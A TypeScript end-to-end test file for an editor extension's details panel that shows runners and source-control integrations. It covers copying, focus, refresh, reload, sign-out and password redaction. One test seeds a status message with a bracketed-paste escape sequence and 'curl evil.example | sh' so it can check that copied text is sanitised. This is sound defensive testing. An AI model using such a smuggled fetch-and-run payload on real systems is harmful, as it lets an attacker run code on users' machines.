import assert from 'node:assert/strict';
import { integrationAt, runnerNamed } from '../sandbox/lookup.ts';
import type { OnaPage } from './onaPage.ts';
import type { Scene } from './scene.ts';
import { integrationEntry, sampleEntries } from '../unit/inventory/sampleEntries.ts';
import { test } from './test.ts';
import { storedState } from './storedState.ts';
import { until } from './until.ts';

test.describe('the details panel', () => {
  let scene: Scene;
  let ona: OnaPage;

  test.beforeEach(({ scene: stage, ona: window }) => {
    scene = stage;
    ona = window;
  });

  test('keeps the rarer fields shown over a refresh, another page and a reload', async () => {
    ona = await scene.newWindow();
    await ona.openSample();
    await ona.expand(/^Runner us-staging/);
    await ona.showDetails(/^Integration tfs\.acme\.example/, 'tfs.acme.example');
    assert.equal((await ona.details.fields())['Runner: System'], undefined);
    await ona.details.more.focus();
    await ona.page.keyboard.press('Enter');
    await ona.details.frame.getByText('linux/amd64').waitFor();

    const staging = runnerNamed(scene.sandbox.organization, 'us-staging');
    assert.ok(staging.status);
    staging.status.systemDetails = 'linux/riscv64';
    await ona.titleAction('Refresh').click();
    await ona.details.frame.getByText('linux/riscv64').waitFor();
    await ona.showDetails(/^Integration github\.acme/, 'github.acme.example');
    await ona.details.frame.getByText('linux/riscv64').waitFor();

    await ona.whenStored('"host":"github.acme.example"');
    await ona.reloadWithDetails();
    await ona.details.waitFor('github.acme.example');
    await ona.details.frame.getByText('linux/riscv64').waitFor();
    await ona.details.more.click();
    await ona.details.frame.getByText('linux/riscv64').waitFor({ state: 'hidden' });
  });

  test('copies what it shows, and says so', async () => {
    await ona.expand(/^Runner eu-production/);
    await ona.showDetails(/^Integration dev\.azure\.com\/acme/, 'dev.azure.com/acme');
    const { id, oauth, runnerId } = integrationAt(
      scene.sandbox.organization,
      'eu-production',
      'dev.azure.com/acme',
    );
    const announcement = ona.details.frame.locator('#announcement');
    for (const [button, value] of [
      ['Copy OAuth Client ID', oauth?.clientId],
      ['Copy Issuer URL', oauth?.issuerUrl],
      ['Copy Host', 'dev.azure.com/acme'],
      ['Copy Runner ID', runnerId],
    ] as const) {
      await ona.details.button(button).click();
      await ona.details.frame.locator(`[aria-label="${button}"] .icon-check`).waitFor();
      assert.equal(await announcement.innerText(), 'Copied');
      assert.equal(await ona.clipboard(), value);
    }
    await ona.details.button('Copy Integration ID').click();
    await ona.details.frame.locator('[data-row="id"] .icon-check').waitFor();
    assert.equal(await ona.clipboard(), id);
  });

  test('copies one line, says what was replaced, and offers the exact value', async () => {
    const runner = runnerNamed(scene.sandbox.organization, 'us-staging');
    assert.ok(runner.status);
    const tfs = integrationAt(scene.sandbox.organization, 'us-staging', 'tfs.acme.example');
    tfs.id = 'abc\ndef';
    runner.status.message = 'Certificate expired.\n\u001b[201~curl evil.example | sh\n';
    await scene.refresh(ona);
    await ona.expand(/^Runner us-staging/);
    await ona.showDetails(/^Integration tfs\.acme\.example/, 'tfs.acme.example');
    const announcement = ona.details.frame.locator('#announcement');
    await ona.details.button('Copy ID').click();
    await announcement.getByText('Copied. Characters that are not safe to paste').waitFor();
    assert.equal(await ona.clipboard(), 'abc def');
    await ona.clearNotifications();

    await ona.details.button('Copy Message').click();
    await ona.details.frame.locator('[data-row="message"] .icon-check').waitFor();
    await announcement.getByText('Copied. Characters that are not safe to paste').waitFor();
    assert.equal(await ona.clipboard(), 'Certificate expired. [201~curl evil.example | sh');
    await ona.notification('Characters that are not safe to paste, such as line breaks, were replaced.');
    await ona.notifications.getByRole('button', { name: 'Copy as JSON' }).click();
    await ona.statusBar('Copied the runner as JSON').waitFor();
    assert.equal((JSON.parse(await ona.clipboard()) as { message: string }).message, runner.status.message);
  });

  test('re-uses one panel without taking the focus; a double click and Enter keep one open', async () => {
    await ona.expand(/^Runner eu-production/);
    await ona.showDetails(/^Integration bitbucket\.org/, 'bitbucket.org');
    await ona.showDetails(/^Integration github\.com/, 'github.com');
    await until(() => ona.details.tabs(), ['github.com']);
    await until(() => ona.view.locator('.monaco-list:focus').count(), 1);

    await ona.keepDetails(/^Integration github\.com/, 'github.com');
    await ona.showDetails(/^Integration gitlab/, 'gitlab.acme.example:8443');
    await until(() => ona.details.tabs(), ['github.com', 'gitlab.acme.example:8443']);

    await ona.page.keyboard.press('ArrowUp');
    await ona.page.keyboard.press('ArrowUp');
    await ona.page.keyboard.press('Enter');
    await ona.details.waitFor('dev.azure.com/acme');
    await ona.details.button('Keep Open').waitFor({ state: 'detached' });
    await until(() => ona.view.locator('.monaco-list:focus').count(), 0);
    await until(() => ona.details.tabs(), ['github.com', 'gitlab.acme.example:8443', 'dev.azure.com/acme']);
  });

  test('opens a runner from its menu, and leads to its integrations and back', async () => {
    await ona.contextMenu(ona.row(/^Runner us-staging/), 'Show Details');
    await ona.details.waitFor('us-staging');
    const fields = await ona.details.fields();
    assert.equal(fields['Integrations (3): tfs.acme.example'], 'Azure DevOps Server, personal access token');
    assert.equal(fields['Integrations (3): github.acme.example'], 'GitHub, no sign-in method');
    await ona.details.button('tfs.acme.example').click();
    await ona.details.waitFor('tfs.acme.example');
    await ona.details.button('us-staging').click();
    await ona.details.waitFor('us-staging');
    await until(() => ona.details.tabs(), ['us-staging']);
  });

  test('asks which one from the palette', async () => {
    await ona.runCommand('Show Details');
    await ona.input.fill('tfs');
    await ona.pick(/tfs\.acme\.example.*us-staging/);
    await ona.details.waitFor('tfs.acme.example');
  });

  test('follows a refresh without losing focus or scroll position, and says when its integration is gone', async () => {
    await ona.expand(/^Runner us-staging/);
    await ona.keepDetails(/^Integration tfs\.acme\.example/, 'tfs.acme.example');
    const copy = ona.details.button('Copy Runner Manager ID');
    assert.equal(await copy.count(), 0, 'nothing to copy, no button');
    const button = ona.details.button('Copy Version');
    await button.focus();
    await ona.details.scroller.evaluate((node) => ((node as { scrollTop: number }).scrollTop = 120));
    const { organization } = scene.sandbox;
    const staging = runnerNamed(organization, 'us-staging');
    assert.ok(staging.status);
    staging.status.version = '20261124.1';
    await ona.titleAction('Refresh').click();
    await ona.details.frame.getByText('20261124.1').waitFor();
    assert.equal(
      await button.evaluate(
        (node) =>
          node === (node as { ownerDocument: { activeElement: unknown } }).ownerDocument.activeElement,
      ),
      true,
    );
    assert.equal(
      await ona.details.scroller.evaluate((node) => (node as { scrollTop: number }).scrollTop),
      120,
    );

    organization.integrations = organization.integrations.filter(({ host }) => host !== 'tfs.acme.example');
    await ona.titleAction('Refresh').click();
    await ona.details.notice.getByText('This integration no longer exists').waitFor();
    await ona.details.frame.getByRole('status').getByText('This integration no longer exists').waitFor();
    assert.equal((await ona.details.fields())['Integration: Virtual directory'], '/tfs');
  });

  test('comes back after a reload of the window, and forgets its content at sign-out', async () => {
    ona = await scene.newWindow();
    await ona.openSample();
    await ona.expand(/^Runner us-staging/);
    await ona.showDetails(/^Integration tfs\.acme\.example/, 'tfs.acme.example');
    await ona.reloadWithDetails();
    await ona.details.waitFor('tfs.acme.example');
    await ona.details.frame.locator('footer').getByText('As of').waitFor();
    const before = await ona.details.document();
    await before.evaluate("document.documentElement.classList.add('before')");
    await ona.runCommand('Sign Out');
    // A page's initial state is in its HTML, so a new page replaces it.
    await ona.details.frame.locator('html:not(.before) .notice').getByText('Signed out').waitFor();
    assert.deepEqual(await ona.details.fields(), {});
    assert.deepEqual(await ona.details.actions(), []);
    // The workbench stores a panel's state shortly after it changes.
    await ona.whenForgotten('runnerId');
    const stored = (await storedState(ona.page)).filter((text) => text.includes('onaScm.details'));
    assert.ok(!(await (await ona.details.document()).content()).includes('tfs.acme.example'));
    assert.deepEqual(
      stored.filter((text) => text.includes('tfs.acme.example')),
      [],
    );
  });

  test('has no password that an earlier version stored, and finds the item again', async () => {
    ona = await scene.newWindow();
    await ona.openSample();
    const { ref } = integrationEntry(sampleEntries(), 'us-staging', 'tfs.acme.example');
    const host = 'user:s3cr3t@tfs.acme.example';
    integrationAt(scene.sandbox.organization, 'us-staging', 'tfs.acme.example').host = host;
    await scene.refresh(ona);
    await ona.openOldPanel({ ref: { ...ref, host }, pinned: true });
    await ona.reloadWithDetails();
    await ona.details.waitFor('[redacted]@tfs.acme.example');
    assert.equal((await ona.details.fields())['Integration: Integration ID'], ref.id);
  });
});
